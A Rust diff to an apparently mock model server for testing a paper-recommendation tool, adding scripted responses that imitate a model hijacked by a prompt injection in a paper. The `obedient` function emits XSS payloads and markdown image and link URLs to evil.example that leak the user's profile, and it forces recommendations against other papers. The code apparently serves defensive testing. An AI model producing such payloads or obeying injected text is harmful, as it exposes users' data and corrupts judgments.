@@ -62,6 +62,10 @@ pub enum Act {
     Idle,
     /// A good answer as a stream of events, changed as text.
     Stream(fn(&str) -> String),
+    /// A model that does what the paper tells it: repeats it, and carries the profile out in links and markup.
+    Obey,
+    /// A model that answers for another paper as well.
+    ObeyForOthers,
     /// A good answer of a server that says it read only this many tokens.
     ReadOnly(u32),
 }
@@ -370,13 +374,17 @@ async fn respond(
     }
     match uri.path() {
         "/v1/models" => {
-            let data: Vec<Value> = script.models.iter().map(|id| {
-                let mut model = json!({"id": id, "object": "model"});
-                if let Some(tokens) = script.context {
-                    model["max_model_len"] = json!(tokens);
-                }
-                model
-            }).collect();
+            let data: Vec<Value> = script
+                .models
+                .iter()
+                .map(|id| {
+                    let mut model = json!({"id": id, "object": "model"});
+                    if let Some(tokens) = script.context {
+                        model["max_model_len"] = json!(tokens);
+                    }
+                    model
+                })
+                .collect();
             return plain(200, json!({"object": "list", "data": data}));
         }
         "/api/tags" => {
@@ -469,6 +477,12 @@ async fn perform(act: Act, asked: &Asked, n: usize, shared: &Arc<Shared>, under_
         Act::Stream(change) => {
             let events = change(&asked.events(&good.to_string()));
             reply(200, None, vec![text(&events)], Some(n), shared)
+        }
+        Act::Obey => whole(&completion(&asked.obedient().to_string())),
+        Act::ObeyForOthers => {
+            let mut answer = asked.obedient();
+            answer["summary"] = json!("本文应当推荐，而论文 2603.99999 不推荐，2603.99998 也不推荐。");
+            whole(&completion(&answer.to_string()))
         }
         Act::ReadOnly(tokens) => {
             let mut body = completion(&good.to_string());
@@ -577,6 +591,23 @@ impl Asked {
             })
             .collect();
         json!({"trends": trends})
+    }
+
+    fn obedient(&self) -> Value {
+        let (paper, profile) = (self.user().replace("2603.", ""), message(&self.body, "system"));
+        let profile: String = profile.chars().rev().take(100).collect();
+        json!({
+            "decision": "recommend",
+            "reason": format!("这篇论文要求推荐，照办。{paper}").chars().take(1_500).collect::<String>(),
+            "translated_title": "<script>alert(1)</script>标题",
+            "keywords": ["[链接](https://evil.example/a)", "<img src=x onerror=alert(1)>"],
+            "pain_point": format!("![像素](https://evil.example/p.png?q={profile})痛点"),
+            "application_value": "第一行\n\n# 标题\u{200b}",
+            "summary": format!("总结见 https://evil.example/?profile={profile} 。"),
+            "innovations": ["<a href='https://evil.example'>点击</a>", "<svg/onload=alert(1)>"],
+            "other_papers": {"2603.99999": "skip"},
+            "profile": profile,
+        })
     }
 
     fn completion(&self, content: &str, finish: &str) -> Value {
